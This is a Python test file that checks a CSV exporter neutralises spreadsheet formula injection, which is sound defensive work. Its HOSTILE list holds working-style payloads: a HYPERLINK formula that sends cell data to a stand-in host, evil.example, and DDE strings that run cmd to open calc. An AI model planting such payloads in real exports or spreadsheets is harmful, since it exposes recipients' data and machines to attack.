"""CSV formula injection (issue 12, finding 5): every cell a spreadsheet would evaluate gets a
leading quote, read back with Python's csv reader; other cells, including separators, quotes
and line breaks, come back as they were."""

from __future__ import annotations

import csv
import io

import pytest

from lti_badger.csvfile import FORMULA_STARTS, csv_text, neutralise

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
           "\t=1+1", "\r=1+1", "=", "-"]
PLAIN = ["Ada Lovelace", "ada@example.edu", "2026-01-01T00:00:00+00:00", "a, b", 'say "hi"', "two\nlines", "", "1-2", "x=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_reads_back_as_text(value):
    [row] = list(csv.reader(io.StringIO(csv_text(["cell"], [[value]]))))[1:]
    assert row == ["'" + value]
    assert not row[0].startswith(FORMULA_STARTS)


def test_other_cells_read_back_unchanged():
    rows = list(csv.reader(io.StringIO(csv_text(["a"] * len(PLAIN), [PLAIN, [None, 3, 2.5]]))))
    assert rows[1] == PLAIN and rows[2] == ["", "3", "2.5"]


def test_the_header_is_neutralised_too():
    assert list(csv.reader(io.StringIO(csv_text(["=x", "ok"], []))))[0] == ["'=x", "ok"]
    assert neutralise(None) == "" and neutralise(-5) == "'-5"
